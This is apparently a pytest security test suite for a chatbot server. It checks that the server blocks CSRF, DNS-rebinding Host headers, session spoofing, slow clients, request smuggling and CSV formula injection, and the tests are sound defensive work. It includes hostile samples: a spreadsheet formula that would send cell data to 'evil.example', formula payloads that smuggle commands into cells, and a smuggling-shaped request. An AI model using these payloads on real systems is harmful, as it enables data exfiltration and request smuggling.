"""Issue 14 against a real running server (``python app.py`` in its own process, as tests/servers.py runs it):
no web page, other workspace, foreign Host or slow client can drive, read or stall the bot.

One server serves the web chat, Slack (against a fake Slack on loopback) and Teams in loopback emulator
mode (against the fake Bot Connector), with short body and header deadlines so the slow-client tests
take seconds, not the production 20 s.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import subprocess
import sys
import time
from collections.abc import AsyncIterator
from datetime import UTC, datetime

import aiohttp
import pytest
import pytest_asyncio

from adapters.web import user_for_session
from bot.storage.db import create_engine
from tests.fake_connector import FakeConnector
from tests.fake_slack import FakeSlack
from tests.servers import ROOT, ServerProcess, WebChatUser, session_token
from tests.slack_harness import SECRET, TEAM, SlackClient, dm_event, event_body
from tests.teams_harness import message

pytestmark = pytest.mark.asyncio(loop_scope="module")
BODY_DEADLINE = 2  # BODY_TIMEOUT_SECONDS for the server under test (production default: 20)
HEADER_DEADLINE = 3
MAX_CONNECTIONS = 12
CUT_OFF_WITHIN = 40  # the bar for a slow body, in seconds
PUBLIC_HOST = "bot.example.org"
ADMIN = "the-admin"  # the label of the admin's browser session
FORMULAS = ('=HYPERLINK("https://evil.example/steal?d="&B2,"Open")', "@SUM(1+1)*cmd", "+public task", "-2+3+cmd")


class Live:
    def __init__(self, server: ServerProcess, slack: FakeSlack, connector: FakeConnector, database_url: str,
                 http: aiohttp.ClientSession):
        self.server, self.slack, self.connector, self.database_url, self.http = (
            server, slack, connector, database_url, http)
        self.admin = WebChatUser(http, ADMIN)

    @property
    def url(self) -> str:
        return self.server.url


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def live(tmp_path_factory) -> AsyncIterator[Live]:
    tmp = tmp_path_factory.mktemp("security")
    database_url = f"sqlite:///{tmp / 'live.db'}"
    slack = await FakeSlack().start()
    server = ServerProcess(database_url, tmp / "server.log", BODY_TIMEOUT_SECONDS=str(BODY_DEADLINE),
                           HEADER_TIMEOUT_SECONDS=str(HEADER_DEADLINE), MAX_CONNECTIONS=str(MAX_CONNECTIONS),
                           ADMINS=user_for_session(session_token(ADMIN)), PUBLIC_HOST=PUBLIC_HOST,
                           SLACK_BOT_TOKEN="xoxb-test", SLACK_SIGNING_SECRET=SECRET,
                           SLACK_API_BASE_URL=slack.base_url)
    with FakeConnector() as connector:
        try:
            await server.start()
            async with aiohttp.ClientSession() as http:
                yield Live(server, slack, connector, database_url, http)
        finally:
            await server.stop()
            await slack.stop()


async def post_chat(live: Live, body: bytes | str, headers: dict[str, str]) -> tuple[int, str]:
    async with live.http.post(f"{live.url}/api/chat", data=body, headers=headers) as response:
        return response.status, await response.text()


# ------------------------------------------------------------------ web pages on other sites
async def test_a_cross_origin_post_is_refused_and_does_nothing(live):
    isa_add = ("isa add title=Added by CSRF from another origin | parties=A;B | purpose=p | data_categories=contact"
               " | lawful_basis=public task | start_date=2026-01-01 | review_date=2027-01-01")
    body = json.dumps({"text": isa_add})
    cookie = live.admin.headers  # the admin's browser attaches its cookie (were SameSite not to stop it)
    attempts = [
        {"Origin": "https://evil.example", "Content-Type": "text/plain"},  # no-cors, no preflight
        {"Origin": "https://evil.example", "Content-Type": "application/json"},
        {"Origin": "null", "Content-Type": "application/json"},
        {"Sec-Fetch-Site": "cross-site", "Content-Type": "application/json"},
        {"Sec-Fetch-Site": "same-site", "Content-Type": "application/json"},
        {"Origin": live.url, "Content-Type": "text/plain"},  # same origin, but not exactly JSON
        {"Content-Type": "application/x-www-form-urlencoded"},
        {"Content-Type": "text/plain;application/json"},
    ]
    for headers in attempts:
        status, text = await post_chat(live, body, {**cookie, **headers})
        assert status in (403, 415), (headers, status, text)
    listed = await live.admin.send(live.url, text="isa list")
    assert not any("CSRF" in reply["text"] for reply in listed)
    # The page itself (same origin, JSON) still works, also when served as PUBLIC_HOST by a proxy that
    # rewrites Host to the loopback address.
    for origin in (live.url, f"https://{PUBLIC_HOST}"):
        status, _ = await post_chat(live, json.dumps({"text": "help"}),
                                    {**cookie, "Origin": origin, "Sec-Fetch-Site": "same-origin",
                                     "Content-Type": "application/json"})
        assert status == 200, origin


async def test_a_foreign_host_header_is_refused(live):
    port = live.server.port
    for path in ("/", "/api/chat", "/healthz", "/static/chat.js"):
        method = "POST" if path == "/api/chat" else "GET"
        async with live.http.request(method, f"{live.url}{path}", json={"text": "isa list"},
                                     headers={**live.admin.headers, "Host": f"rebind.attacker.example:{port}"}) as r:
            assert r.status == 421, path
    for host in (f"localhost:{port}", f"127.0.0.1:{port}", f"[::1]:{port}", PUBLIC_HOST):
        async with live.http.get(f"{live.url}/healthz", headers={"Host": host}) as response:
            assert response.status == 200, host


async def test_api_and_static_responses_carry_the_security_headers(live):
    requests = [("GET", "/"), ("GET", "/static/chat.js"), ("GET", "/static/index.html"), ("GET", "/static/chat.css"),
                ("POST", "/api/chat"), ("GET", "/api/outbox"), ("GET", "/healthz"), ("GET", "/metrics"),
                ("GET", "/no-such-page"), ("POST", "/api/messages")]
    for method, path in requests:
        async with live.http.request(method, f"{live.url}{path}", json={"text": "help"},
                                     headers=live.admin.headers) as response:
            headers = response.headers
            assert headers.get("X-Content-Type-Options") == "nosniff", path
            assert "frame-ancestors 'none'" in headers.get("Content-Security-Policy", ""), path
            assert headers.get("Referrer-Policy") == "no-referrer", path
            assert headers.get("X-Frame-Options") == "DENY", path
            assert headers.get("Server") == "infoshare", path  # no product or version banner


async def test_aiohttps_own_error_answers_carry_them_too(live):
    """A request that never reaches a route (malformed line, smuggling-shaped headers) is answered by
    aiohttp itself; that answer must not name the server's version either."""
    for raw in (b"GARBAGE\r\n\r\n",
                b"POST /api/chat HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 5\r\n"
                b"Transfer-Encoding: chunked\r\n\r\n"):
        reader, writer = await asyncio.open_connection("127.0.0.1", live.server.port)
        writer.write(raw)
        head = (await asyncio.wait_for(reader.read(1000), 5)).split(b"\r\n\r\n")[0].decode()
        writer.close()
        assert head.startswith("HTTP/1."), head
        assert " 400 " in head.splitlines()[0], head
        assert "X-Content-Type-Options: nosniff" in head, head
        assert "Server: infoshare" in head, head
        assert "aiohttp" not in head, head
        assert "Python" not in head, head
    lines = [json.loads(line) for line in live.server.log().splitlines() if line.startswith("{")]
    refused = [line for line in lines if line["message"] == "malformed request refused"]
    assert refused
    assert all(line["level"] == "INFO" and "exception" not in line for line in refused)
    assert not [line for line in lines if line["level"] == "ERROR"]  # any client can send these: no log flood


async def test_the_page_sets_a_strict_session_cookie(live):
    async with aiohttp.ClientSession(cookie_jar=aiohttp.DummyCookieJar()) as fresh:
        async with fresh.get(f"{live.url}/") as response:
            cookie = response.headers["Set-Cookie"]
        async with fresh.get(f"{live.url}/", headers={"X-Forwarded-Proto": "https"}) as response:
            behind_tls = response.headers["Set-Cookie"]
    assert "HttpOnly" in cookie
    assert "SameSite=Strict" in cookie
    assert "Secure" not in cookie
    assert "Secure" in behind_tls


async def test_the_user_id_is_the_servers_not_the_pages(live):
    stranger = WebChatUser(live.http, "a-stranger")
    # Naming the admin in the body changes nothing: the session decides who is asking.
    async with live.http.post(f"{live.url}/api/chat", headers=stranger.headers,
                              json={"user": live.admin.user, "text": "isa add title=Spoofed | parties=A;B"}) as r:
        replies = (await r.json())["replies"]
    assert any("only" in reply["text"].lower() and "admin" in reply["text"].lower() for reply in replies), replies
    async with live.http.post(f"{live.url}/api/chat", json={"user": live.admin.user, "text": "isa list"}) as r:
        assert r.status == 401  # no session, no turn
    async with live.http.get(f"{live.url}/api/outbox", params={"user": live.admin.user}) as r:
        assert r.status == 401


# ------------------------------------------------------------------ hostile input
ABSURD = ["records show 99999999999999999999999", "records 99999999999999999999999",
          "records amend 99999999999999999999999", "isa show 99999999999999999999999",
          "isa history 99999999999999999999999", "isa edit 99999999999999999999999 status=ended",
          "isa reviewed 99999999999999999999999 2027-01-01", "isa due 99999999999", "isa due " + "9" * 50,
          "isa snooze 1 99999999999999999999", "records show ²", "isa show \x00 1", "hello\x00 there"]


async def test_absurd_integers_and_nul_bytes_get_an_answer(live):
    user = WebChatUser(live.http, "absurd")
    for text in ABSURD:
        replies = await user.send(live.url, text=text)  # asserts 200
        assert replies, text
        assert all(reply["text"] for reply in replies), text
        assert not any("can't reach my records" in reply["text"] or "went wrong" in reply["text"]
                       for reply in replies), (text, replies)
    assert "unhandled error" not in live.server.log()
    assert "Traceback" not in live.server.log()


async def test_an_overlong_button_choice_is_refused_like_overlong_text(live):
    user = WebChatUser(live.http, "long-choice")
    replies = await user.send(live.url, choice="x" * 250_000)  # inside the body limit, over MAX_MESSAGE_CHARS
    assert "too long" in replies[-1]["text"].lower()


# ------------------------------------------------------------------ Slack and Teams
async def test_a_signed_event_from_another_workspace_is_ignored(live):
    client = SlackClient(live.http, f"{live.url}/slack/events")
    foreign = json.loads(event_body(dm_event("isa list", user="UADMIN"), "EvForeign1"))
    foreign["team_id"] = "T2OTHER"
    status, _ = await client.send(json.dumps(foreign), json_body=True)
    assert status == 200  # acked, so Slack does not retry
    own = dm_event("what is an ISA?", user="UOWN")
    assert (await client.event(own, "EvOwn1"))[0] == 200
    await live.slack.wait_for(lambda calls: any(c.args.get("channel") == own["channel"] for c in calls
                                                if c.method == "chat.postMessage"))
    assert not [c for c in live.slack.of("chat.postMessage", "conversations.open") if "UADMIN" in json.dumps(c.args)]
    assert "another workspace ignored" in live.server.log()


async def test_malformed_signed_slack_payloads_get_400(live):
    client = SlackClient(live.http, f"{live.url}/slack/events")
    bodies = [json.dumps({"team_id": TEAM, "api_app_id": "A1", "type": "event_callback", "event": None}),
              '{"a":' * 5000,
              event_body({"type": "message", "channel_type": "im", "channel": "D1", "user": "U1", "ts": "1.5",
                          "text": ["a", "list"]})]
    for body in bodies:
        assert (await client.send(body, json_body=True))[0] == 400, body[:60]
    form = "payload=" + json.dumps({"type": "block_actions", "team": {"id": TEAM}, "user": {"id": "U1"},
                                    "api_app_id": "A1", "actions": [{"value": "x"}]})
    assert (await client.send(form))[0] == 400


async def test_the_teams_endpoint_refuses_what_a_web_page_can_send(live):
    activity = message("records", service_url=live.connector.url)
    body = json.dumps(activity)
    for headers in ({"Content-Type": "text/plain"}, {"Content-Type": "text/plain;application/json"},
                    {"Content-Type": "application/json", "Origin": "https://evil.example"},
                    {"Content-Type": "application/json", "Sec-Fetch-Site": "cross-site"}):
        async with live.http.post(f"{live.url}/api/messages", data=body, headers=headers) as response:
            assert response.status in (403, 415), headers
    await asyncio.sleep(0.5)
    assert live.connector.calls == []  # nothing was posted to the page's chosen serviceUrl
    async with live.http.post(f"{live.url}/api/messages", json=activity) as response:  # the emulator still works
        assert response.status in (200, 201)


# ------------------------------------------------------------------ exports
async def test_exported_csv_formulas_are_neutralised(live):
    added = await live.admin.send(live.url, text=(
        f"isa add title={FORMULAS[0]} | parties={FORMULAS[1]}; School | purpose={FORMULAS[3]} | "
        f"data_categories=contact | lawful_basis={FORMULAS[2]} | start_date=2026-01-01 | review_date=2027-01-01"))
    assert "Added agreement" in added[0]["text"], added
    engine = create_engine(live.database_url)
    try:
        from bot.storage import records as record_store

        await record_store.store(engine, live.admin.user, {"decision": "share", "reference": "CR-1",
                                                      "purpose": FORMULAS[0], "recipient": "\tTab"},
                            "csv-test", datetime.now(UTC))
    finally:
        await engine.dispose()
    env = {**os.environ, "DATABASE_URL": live.database_url}
    exports = [subprocess.run([sys.executable, "-m", "bot", *args], cwd=ROOT, env=env, capture_output=True,
                              text=True, timeout=120)
               for args in (["isa", "export", "--format", "csv"],
                            ["records", "export", "--user", live.admin.user, "--format", "csv"])]
    for done in exports:
        assert done.returncode == 0, done.stderr
        cells = [cell for row in csv.reader(io.StringIO(done.stdout)) for cell in row]
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    isa_cells = next(csv.reader(io.StringIO(exports[0].stdout.splitlines()[-1])))
    assert "'" + FORMULAS[0] in isa_cells
    assert "'+public task" in isa_cells
    record = next(csv.DictReader(io.StringIO(exports[1].stdout)))
    assert (record["purpose"], record["recipient"]) == ("'" + FORMULAS[0], "'\tTab")


# ------------------------------------------------------------------ slow and vanishing clients
async def _open(live: Live, head: bytes) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    reader, writer = await asyncio.open_connection("127.0.0.1", live.server.port)
    writer.write(head)
    await writer.drain()
    return reader, writer


async def _trickle_until_answered(reader, writer, every: float = 0.5) -> tuple[float, bytes]:
    """Send one more byte every ``every`` seconds until the server answers or hangs up."""
    started = time.monotonic()
    while time.monotonic() - started < CUT_OFF_WITHIN + 5:
        try:
            writer.write(b"x")
            await writer.drain()
            data = await asyncio.wait_for(reader.read(200), every)
            return time.monotonic() - started, data
        except TimeoutError:
            continue
        except OSError:
            return time.monotonic() - started, b""
    return time.monotonic() - started, b"(never cut off)"


async def test_a_slow_body_is_cut_off(live):
    reader, writer = await _open(live, b"POST /api/chat HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                                       b"Content-Type: application/json\r\nContent-Length: 200000\r\n\r\n")
    elapsed, answer = await _trickle_until_answered(reader, writer)
    writer.close()
    assert elapsed < CUT_OFF_WITHIN, (elapsed, answer)
    assert answer.startswith(b"HTTP/1.1 408"), (elapsed, answer)
    assert elapsed < BODY_DEADLINE + 3  # the configured deadline, not some other timer


async def test_slow_headers_are_cut_off(live):
    reader, writer = await _open(live, b"POST /api/chat HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ")
    elapsed, answer = await _trickle_until_answered(reader, writer)
    writer.close()
    assert elapsed < HEADER_DEADLINE + 3, (elapsed, answer)
    assert answer != b"(never cut off)", (elapsed, answer)


async def test_a_client_hanging_up_mid_body_is_logged_at_info_without_a_traceback(live):
    _reader, writer = await _open(live, b"POST /api/chat HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                                        b"Content-Type: application/json\r\nContent-Length: 100000\r\n\r\n{\"te")
    await asyncio.sleep(0.3)
    writer.transport.abort()
    for _ in range(50):
        if "client disconnected" in live.server.log():
            break
        await asyncio.sleep(0.1)
    lines = [json.loads(line) for line in live.server.log().splitlines() if line.startswith("{")]
    assert any(line["message"] == "client disconnected" and line["level"] == "INFO" for line in lines)
    assert not [line for line in lines if line["level"] == "ERROR" or "exception" in line]


async def test_connections_over_the_cap_are_refused_and_the_server_recovers(live):
    """Idle sockets (as a slowloris holds them) up to MAX_CONNECTIONS; the next is told 503 and closed."""
    held = []
    try:
        for _ in range(MAX_CONNECTIONS + 1):  # some of the cap may already be this module's keep-alive pool
            reader, writer = await asyncio.open_connection("127.0.0.1", live.server.port)
            held.append(writer)
            await asyncio.sleep(0.05)
            writer.write(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: keep-alive\r\n\r\n")
            answer = await asyncio.wait_for(reader.read(100), 5)
            if answer.startswith(b"HTTP/1.1 503"):
                break
        else:
            raise AssertionError(f"{len(held)} connections open and none refused")
        assert len(held) <= MAX_CONNECTIONS
    finally:
        for writer in held:
            writer.close()
    await asyncio.sleep(0.5)
    async with live.http.get(f"{live.url}/healthz") as response:
        assert response.status == 200
    assert "MAX_CONNECTIONS" in live.server.log()


async def test_arriving_from_another_site_keeps_the_visitors_session(live):
    async with aiohttp.ClientSession(cookie_jar=aiohttp.DummyCookieJar()) as fresh:
        # A link on another site: the browser holds back the Strict cookie; a new one would replace it.
        async with fresh.get(f"{live.url}/", headers={"Sec-Fetch-Site": "cross-site"}) as response:
            assert response.status == 200
            assert "Set-Cookie" not in response.headers
        # chat.js then asks for a session (same origin, so the browser sends the cookie it has).
        same_origin = {"Sec-Fetch-Site": "same-origin", "Origin": live.url}
        async with fresh.post(f"{live.url}/api/session", headers={**live.admin.headers, **same_origin}) as response:
            assert response.status == 200
            assert "Set-Cookie" not in response.headers
        async with fresh.post(f"{live.url}/api/session", headers=same_origin) as response:
            assert "HttpOnly" in response.headers["Set-Cookie"]  # none yet: started
        async with fresh.post(f"{live.url}/api/session", headers={"Origin": "https://evil.example"}) as response:
            assert response.status == 403
